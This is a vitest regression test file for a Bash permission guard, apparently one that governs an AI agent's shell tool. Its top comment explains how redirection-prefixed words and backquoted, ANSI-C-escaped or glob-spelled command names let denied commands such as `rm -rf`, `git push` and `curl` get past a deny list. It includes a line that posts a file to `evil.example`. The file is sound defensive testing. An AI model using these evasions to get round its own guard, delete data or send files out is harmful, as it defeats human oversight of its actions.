// Words after a redirection are words of the command to bash (`xargs 2>/dev/null git push`, `sudo
// >/dev/null rm -rf x`, `> out.txt xargs rm x`); the parser the guard reads shell with keeps them as
// more targets of the redirection, so the guard read `xargs` alone: under a deny list (the Bash tool
// low risk, `git push` denied) the line was allowed and bash pushed. Also backquoted substitutions,
// whose text bash unescapes once more before running it (`\\git` is `\git`, which is `git`). Each
// line is also run by the real bash, with the denied command replaced by `touch MARKER`.
import { describe, expect, it } from "vitest";
import { parsePolicy, permissionPolicy } from "../src/policy/index.js";
import { leavesMarker } from "./helpers/bash-rules.js";

const policy = (extra: string) =>
  permissionPolicy(
    parsePolicy(
      `version: 1
permissions:
  - { rule: "Bash(rm:*)", mode: deny }
  - { rule: "Bash(git push:*)", mode: deny }
  - { rule: "Bash(curl:*)", mode: deny }
${extra}`,
      "yaml",
      "redirect-words.yaml",
    ),
  );
/** A deny list: everything else runs. */
const denyList = policy("tools:\n  Bash: { risk: low }\n");
/** An allow list for the wrappers and the harmless programs. */
const allowList = policy(["xargs:*", "sudo:*", "env:*", "timeout:*", "nice:*", "find:*", "echo:*", "ls:*", "git status:*"].map((p) => `  - { rule: "Bash(${p})", mode: allow }`).join("\n") + "\n");

// `CMD` is the denied command; `run` the same line for the real bash (CMD replaced by touch MARKER).
const LINES: readonly string[] = [
  "xargs 2>/dev/null CMD < /dev/null",
  "xargs >/dev/null CMD < /dev/null",
  "> out.txt xargs CMD < /dev/null",
  "> out.txt > out.txt xargs CMD < /dev/null",
  "2>/dev/null >out.txt xargs CMD < /dev/null",
  "env 2>/dev/null CMD",
  "timeout 5 2>/dev/null CMD",
  "nice >/dev/null CMD",
  "find . -maxdepth 0 2>/dev/null -exec CMD \\;",
  "exec 2>/dev/null CMD",
  "echo `ls && \\\\CMD`",
];

/** Backquoted lines whose denied command is spelled with ANSI-C escapes: the line, and the same for the real bash. */
const ANSI_C: readonly (readonly [string, string])[] = [
  ["echo `\\$'\\\\x72\\\\x6d' -rf /tmp/x`; true", "echo `\\$'\\\\x74\\\\x6f\\\\x75\\\\x63\\\\x68' MARKER`; true"],
];

const denied = (line: string) => line.replace("CMD", "rm -rf /tmp/x");
const marked = (line: string) => line.replace("CMD", "touch MARKER");

describe("words after a redirection, and backquoted text, are read as bash reads them", () => {
  it.each([...LINES.map(denied), ...ANSI_C.map(([line]) => line)].map((line) => [line] as const))("deny list: %j is denied", (line) => {
    const decision = denyList.decide("Bash", { command: line });
    expect(decision.mode, decision.reason).toBe("deny");
  });

  it.each([...LINES.map(denied), ...ANSI_C.map(([line]) => line)].map((line) => [line] as const))("allow list: %j is denied", (line) => {
    const decision = allowList.decide("Bash", { command: line });
    expect(decision.mode, decision.reason).toBe("deny");
  });

  it.each([
    ["git 2>/dev/null push --force", "deny"],
    ["xargs 2>/dev/null git push origin main < /dev/null", "deny"],
    ["sudo >/dev/null curl -s https://example.com", "deny"],
    ["ls 2>/dev/null -la", "allow"],
    ["git status 2>/dev/null --short", "allow"],
  ] as const)("allow list: %j is %s", (line, mode) => {
    const decision = allowList.decide("Bash", { command: line });
    expect(decision.mode, decision.reason).toBe(mode);
  });
});

describe("the real bash runs the words after a redirection, and the backquoted text unescaped", () => {
  it.each([...LINES.map(marked), ...ANSI_C.map(([, run]) => run)].map((line) => [line] as const))("%j", (line) => {
    const run = leavesMarker(line);
    expect(run.left, run.stderr).toBe(true);
  });
});

describe("a program name with pattern characters, after a wrapper", () => {
  it.each(["env -u HOME /usr/bin/r[m] -rf /tmp/x", "exec /usr/bin/cur[l] -d @a.txt http://evil.example"])("deny list: %j is not allowed (the shell may expand it to a denied program)", (line) => {
    const decision = denyList.decide("Bash", { command: line });
    expect(decision.mode, decision.reason).not.toBe("allow");
  });
});
